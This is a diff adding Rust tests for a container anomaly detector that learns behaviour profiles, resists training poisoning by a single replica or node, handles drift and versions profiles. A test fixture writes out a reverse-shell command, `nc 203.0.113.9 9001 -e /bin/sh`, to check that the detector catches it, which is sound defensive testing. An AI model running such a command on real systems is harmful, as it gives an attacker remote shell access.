@@ -1,0 +1,338 @@
+use super::*;
+use crate::detector::{Detector, Stage, WorkloadBy};
+use crate::rules::RuleSet;
+use crate::store::ProfileStore;
+use kestrel_core::{ContainerRef, EVENT_SCHEMA};
+
+const SEC: u64 = 1_000_000_000;
+
+/// Builds events of one container.
+struct Box_ {
+    id: String,
+    t: u64,
+    pid: u32,
+}
+
+impl Box_ {
+    fn new(id: &str, t: u64) -> Box_ {
+        Box_ { id: id.into(), t, pid: 100 }
+    }
+
+    fn ev(&mut self, pid: u32, comm: &str, kind: EventKind) -> Event {
+        self.t += 1_000_000;
+        Event {
+            schema: EVENT_SCHEMA.into(),
+            time_ns: self.t,
+            pid,
+            tid: pid,
+            comm: comm.into(),
+            cgroup_id: 1,
+            container: Some(ContainerRef {
+                id: self.id.clone(),
+                runtime: "runc".into(),
+                image: Some("web:1".into()),
+                ..Default::default()
+            }),
+            process: None,
+            kind,
+        }
+    }
+
+    fn exec(&mut self, parent: &str, ppid: u32, argv: &[&str]) -> Event {
+        self.pid += 1;
+        let comm = argv[0].rsplit('/').next().unwrap_or("").to_string();
+        let pid = self.pid;
+        self.ev(
+            pid,
+            &comm,
+            EventKind::Exec {
+                ppid,
+                parent_comm: parent.into(),
+                uid: 0,
+                gid: 0,
+                euid: 0,
+                exe: argv[0].into(),
+                argv: argv.iter().map(|s| s.to_string()).collect(),
+                argv_truncated: false,
+                cap_effective: 0,
+            },
+        )
+    }
+
+    /// A web server's normal work: nginx, a health check, writes to its log, an accept, its calls.
+    fn normal(&mut self) -> Vec<Event> {
+        let mut v = vec![self.exec("runc", 1, &["/usr/sbin/nginx", "-g", "daemon off;"])];
+        let nginx = self.pid;
+        v.push(self.ev(nginx, "nginx", EventKind::Open { path: "/var/log/nginx/access.log".into(), flags: 0o2101 }));
+        v.push(self.ev(nginx, "nginx", EventKind::Accept { from: sock("127.0.0.1", 40000), port: Some(8080) }));
+        v.push(self.exec("runc", 1, &["/bin/sh", "-c", "wget -q http://127.0.0.1:8080/health"]));
+        v.push(self.exec("sh", self.pid, &["/usr/bin/wget", "-q", "http://127.0.0.1:8080/health"]));
+        v.push(self.ev(self.pid, "wget", EventKind::Connect { to: sock("127.0.0.1", 8080) }));
+        for _ in 0..20 {
+            // epoll_wait, accept4, recvfrom, openat, fstat, sendfile, write, close
+            v.push(self.ev(
+                nginx,
+                "nginx",
+                EventKind::Syscalls { ids: vec![232, 288, 45, 257, 5, 40, 1, 3, 232, 288, 45, 257, 5, 40, 1, 3] },
+            ));
+        }
+        v
+    }
+
+    /// A reverse shell: nc connects out and runs a shell; its calls dup the socket.
+    fn reverse_shell(&mut self) -> Vec<Event> {
+        let mut v = vec![self.exec("runc", 1, &["/bin/nc", "203.0.113.9", "9001", "-e", "/bin/sh"])];
+        let nc = self.pid;
+        v.push(self.ev(nc, "nc", EventKind::Connect { to: sock("203.0.113.9", 9001) }));
+        // socket, connect, dup2, dup2, dup2, execve
+        v.push(self.ev(nc, "nc", EventKind::Syscalls { ids: vec![41, 42, 33, 33, 33, 59, 33, 33, 59, 41, 42, 33] }));
+        v.push(self.exec("nc", nc, &["/bin/sh"]));
+        v.push(self.exec("sh", self.pid, &["/usr/bin/id"]));
+        v
+    }
+}
+
+fn sock(addr: &str, port: u16) -> SockAddr {
+    SockAddr { family: "inet".into(), addr: addr.into(), port }
+}
+
+fn model_only(profiles: Vec<Profile>, stage: Stage) -> Detector {
+    Detector::new(RuleSet::default().compile(), profiles, Policy::default(), WorkloadBy::Image, stage)
+}
+
+/// Learns from the given containers' events (in learn stage) and returns the calibrated profiles.
+fn learn(policy: Policy, streams: Vec<Vec<Event>>) -> Vec<Profile> {
+    let mut d = Detector::new(RuleSet::default().compile(), vec![], policy, WorkloadBy::Image, Stage::Learn);
+    for s in streams {
+        for e in s {
+            assert!(d.process(&e).is_empty());
+        }
+    }
+    let mut ps = d.into_profiles();
+    for p in &mut ps {
+        p.set_mode(Mode::Monitor, 0);
+    }
+    ps
+}
+
+fn model_alerts(d: &mut Detector, events: &[Event]) -> Vec<Alert> {
+    events.iter().flat_map(|e| d.process(e)).filter(|a| matches!(a.source, AlertSource::Model { .. })).collect()
+}
+
+#[test]
+fn a_behaviour_needs_k_containers_and_the_normal_stays_quiet() {
+    let mut a = Box_::new("a", 0);
+    let mut b = Box_::new("b", 0);
+    let mut c = Box_::new("c", 0);
+    // `c` alone ran a cron job while learning.
+    let mut c_events = c.normal();
+    c_events.push(c.exec("runc", 1, &["/usr/bin/logrotate", "/etc/logrotate.conf"]));
+    let ps = learn(Policy::default(), vec![a.normal(), b.normal(), c_events]);
+    assert_eq!(ps.len(), 1);
+    let p = &ps[0];
+    assert_eq!(p.workload, "web:1");
+    assert_eq!(p.containers.len(), 3);
+    assert!(p.knows(View::Process, "exec /usr/sbin/nginx"));
+    assert!(!p.knows(View::Process, "exec /usr/bin/logrotate"), "seen in one container only");
+    assert!(p.syscall_threshold.is_some());
+
+    // A fourth replica doing the same normal work: no alert.
+    let mut d = model_only(ps, Stage::Detect);
+    let mut e = Box_::new("e", 10 * SEC);
+    assert!(model_alerts(&mut d, &e.normal()).is_empty());
+    // logrotate: never trusted, so it alerts, and says why.
+    let a = model_alerts(&mut d, &[e.exec("runc", 1, &["/usr/bin/logrotate", "/etc/logrotate.conf"])]);
+    assert_eq!(a.len(), 1);
+    assert!(a[0].explanation[0].contains("too few containers"), "{:?}", a[0].explanation);
+}
+
+#[test]
+fn a_reverse_shell_taught_by_one_poisoned_replica_is_still_caught() {
+    // Three replicas learn; the attacker controls one of them during the whole learning period and runs
+    // the reverse shell there again and again, to make it look normal.
+    let mut a = Box_::new("a", 0);
+    let mut b = Box_::new("b", 0);
+    let mut evil = Box_::new("evil", 0);
+    let mut poisoned = Vec::new();
+    for _ in 0..50 {
+        poisoned.extend(evil.normal());
+        poisoned.extend(evil.reverse_shell());
+    }
+    let ps = learn(Policy::default(), vec![a.normal(), b.normal(), a.normal(), b.normal(), poisoned]);
+    let p = &ps[0];
+    assert!(p.behaviour(View::Process, "exec /bin/sh with parent nc").is_some_and(|b| b.count >= 50));
+    assert!(!p.knows(View::Process, "exec /bin/sh with parent nc"));
+
+    // Later, the reverse shell in a fresh replica: caught by the profile alone (no rules here).
+    let mut d = model_only(ps, Stage::Detect);
+    let mut x = Box_::new("x", 100 * SEC);
+    assert!(model_alerts(&mut d, &x.normal()).is_empty());
+    let alerts = model_alerts(&mut d, &x.reverse_shell());
+    assert!(!alerts.is_empty());
+    let text: Vec<String> = alerts.iter().flat_map(|a| a.explanation.clone()).collect();
+    let text = text.join("\n");
+    assert!(text.contains("`exec /bin/nc`"), "{text}");
+    assert!(text.contains("`exec /bin/sh with parent nc`"), "{text}");
+    assert!(text.contains("connect to public port 9001"), "{text}");
+    assert!(text.contains("dup2→dup2"), "{text}");
+    assert!(alerts.iter().any(|a| a.severity == Severity::High), "{alerts:#?}");
+    assert!(alerts.iter().all(|a| a.workload.as_deref() == Some("web:1")));
+    assert!(alerts.iter().all(|a| a.explanation.last().is_some_and(|l| l.starts_with("baseline: profile web:1 v1"))));
+
+    // Without the k-replica rule (k = 1) the same poisoning would have worked: the rule is what protects.
+    let mut a = Box_::new("a", 0);
+    let mut evil = Box_::new("evil", 0);
+    let mut poisoned = evil.normal();
+    poisoned.extend(evil.reverse_shell());
+    let ps = learn(Policy { k: 1, ..Policy::default() }, vec![a.normal(), poisoned]);
+    let mut d = model_only(ps, Stage::Detect);
+    let mut x = Box_::new("x", 100 * SEC);
+    let process: Vec<_> =
+        model_alerts(&mut d, &x.reverse_shell()).into_iter().filter(|a| a.title.contains("exec")).collect();
+    assert!(process.is_empty(), "{process:#?}");
+}
+
+#[test]
+fn a_single_replica_learns_over_time_windows() {
+    let policy = Policy { window_ns: 10 * SEC, t: 3, ..Policy::default() };
+    // One container; logrotate in two windows only, nginx in three.
+    let mut a = Box_::new("a", 0);
+    let mut events = Vec::new();
+    for w in 0..3u64 {
+        a.t = w * 10 * SEC;
+        events.extend(a.normal());
+        if w < 2 {
+            events.push(a.exec("runc", 1, &["/usr/bin/logrotate"]));
+        }
+    }
+    let ps = learn(policy, vec![events]);
+    assert!(ps[0].knows(View::Process, "exec /usr/sbin/nginx"));
+    assert!(!ps[0].knows(View::Process, "exec /usr/bin/logrotate"));
+}
+
+#[test]
+fn federated_merge_of_three_nodes_resists_one_poisoned_node() {
+    // Each node learns from its own two replicas; node 3's replicas both ran the reverse shell, so node 3
+    // trusts it.
+    let node = |poison: bool| {
+        let mut a = Box_::new("a", 0);
+        let mut b = Box_::new("b", 0);
+        let (mut ea, mut eb) = (a.normal(), b.normal());
+        if poison {
+            ea.extend(a.reverse_shell());
+            eb.extend(b.reverse_shell());
+        }
+        learn(Policy::default(), vec![ea, eb]).remove(0)
+    };
+    let (n1, n2, n3) = (node(false), node(false), node(true));
+    assert!(n3.knows(View::Process, "exec /bin/sh with parent nc"));
+    let merged = merge("web:1", &[("node-1", &n1), ("node-2", &n2), ("node-3", &n3)], 2);
+    assert_eq!(merged.version, 2);
+    assert!(merged.knows(View::Process, "exec /usr/sbin/nginx"));
+    assert!(merged.knows(View::Network, "accept from loopback on port 8080"));
+    assert!(!merged.knows(View::Process, "exec /bin/sh with parent nc"));
+    assert!(!merged.knows(View::Network, "connect to public port 9001"));
+    // Counts are the median node's times the nodes: node 3's volume does not dominate.
+    let nginx = merged.behaviour(View::Process, "exec /usr/sbin/nginx").map(|b| b.count);
+    assert_eq!(nginx, Some(3 * n1.behaviour(View::Process, "exec /usr/sbin/nginx").map_or(0, |b| b.count)));
+    // The merge carries no raw events: its JSON has behaviours and grams only.
+    let json = serde_json::to_string(&merged).unwrap();
+    assert!(!json.contains("203.0.113.9") && !json.contains("time_ns"));
+    // It detects.
+    let mut d = model_only(vec![merged], Stage::Detect);
+    let mut x = Box_::new("x", 100 * SEC);
+    assert!(model_alerts(&mut d, &x.normal()).is_empty());
+    assert!(!model_alerts(&mut d, &x.reverse_shell()).is_empty());
+}
+
+#[test]
+fn modes_promote_and_drift_relearns() {
+    let policy = Policy {
+        window_ns: 10 * SEC,
+        min_learn_ns: 20 * SEC,
+        stable_ns: 10 * SEC,
+        protect_after_ns: Some(30 * SEC),
+        drift_novel: 2,
+        drift_windows: 2,
+        drift: DriftPolicy::Relearn,
+        ..Policy::default()
+    };
+    let mut d = Detector::new(RuleSet::default().compile(), vec![], policy, WorkloadBy::Image, Stage::Detect);
+    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
+    // Learning: new things keep coming for 15 s, then only the known for 15 s more.
+    for e in a.normal().into_iter().chain(b.normal()) {
+        d.process(&e);
+    }
+    let mode = |d: &Detector| d.profiles().next().map(|p| p.mode);
+    a.t = 15 * SEC;
+    for e in a.normal() {
+        d.process(&e);
+    }
+    assert_eq!(mode(&d), Some(Mode::Learn));
+    a.t = 31 * SEC;
+    for e in a.normal() {
+        assert!(d.process(&e).is_empty());
+    }
+    assert_eq!(mode(&d), Some(Mode::Monitor));
+    // 30 s of quiet monitoring: protect; alerts then carry the tag.
+    a.t = 62 * SEC;
+    for e in a.normal() {
+        d.process(&e);
+    }
+    assert_eq!(mode(&d), Some(Mode::Protect));
+    let alerts = d.process(&a.exec("runc", 1, &["/usr/bin/curl", "http://x"]));
+    assert!(alerts.iter().any(|x| x.tags.contains(&"mode:protect".to_string())), "{alerts:#?}");
+    // Drift: three new programs in each of two windows in a row (an image update) → relearn, version 2.
+    for w in 0..2u64 {
+        a.t = (80 + 10 * w) * SEC;
+        for i in 0..3 {
+            d.process(&a.exec("runc", 1, &[&format!("/usr/bin/new-{w}-{i}")]));
+        }
+    }
+    let p = d.profiles().next().unwrap();
+    assert_eq!((p.mode, p.version), (Mode::Learn, 2));
+    assert!(p.knows(View::Process, "exec /usr/sbin/nginx"), "relearning keeps what was known");
+}
+
+#[test]
+fn profiles_are_saved_versioned_and_rolled_back() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = ProfileStore::new(dir.path().join("profiles"));
+    assert!(store.load_all().unwrap().is_empty());
+    let mut a = Box_::new("a", 0);
+    let mut b = Box_::new("b", 0);
+    let mut p = learn(Policy::default(), vec![a.normal(), b.normal()]).remove(0);
+    store.save(&p).unwrap();
+    p.relearn(5);
+    p.set_mode(Mode::Protect, 6);
+    store.save(&p).unwrap();
+    assert_eq!(store.versions("web:1").unwrap(), [1, 2]);
+    let now = store.load_all().unwrap();
+    assert_eq!((now[0].version, now[0].mode), (2, Mode::Protect));
+    assert!(now[0].knows(View::Process, "exec /usr/sbin/nginx"), "the index is rebuilt on load");
+    let back = store.rollback("web:1", 1).unwrap();
+    assert_eq!((back.version, back.mode), (1, Mode::Monitor));
+    assert_eq!(store.load_all().unwrap()[0].version, 1);
+    // A damaged file names itself.
+    let bad = dir.path().join("profiles/x.json");
+    std::fs::write(&bad, "{").unwrap();
+    let err = store.load_all().unwrap_err().to_string();
+    assert!(err.contains("x.json") && err.contains("not a profile"), "{err}");
+}
+
+#[test]
+fn features_generalise_what_varies() {
+    assert_eq!(
+        argv_shape(&["x".into(), "-n".into(), "12345".into(), "/tmp/a/b".into(), "http://h/p".into()]),
+        "-n N /tmp/a/… http://…"
+    );
+    assert_eq!(path_class("/proc/1234/status"), "/proc/N/status");
+    assert_eq!(path_class("/tmp/tmp.XYZ123"), "/tmp/*");
+    assert_eq!(peer_class(&sock("10.1.2.3", 1)), "private");
+    assert_eq!(peer_class(&sock("8.8.8.8", 1)), "public");
+    assert_eq!(gram_words(pack(&[59, 33, 33])), "execve→dup2→dup2");
+    let mut ctx = SyscallContext::default();
+    assert!(ctx.grams(1, &[1, 2, 3]).is_empty());
+    assert_eq!(ctx.grams(1, &[4, 5, 6, 7]), vec![pack(&[1, 2, 3, 4, 5, 6]), pack(&[2, 3, 4, 5, 6, 7])]);
+    assert_eq!(ctx.grams(2, &[1, 2, 3, 4, 5, 6]).len(), 1);
+}
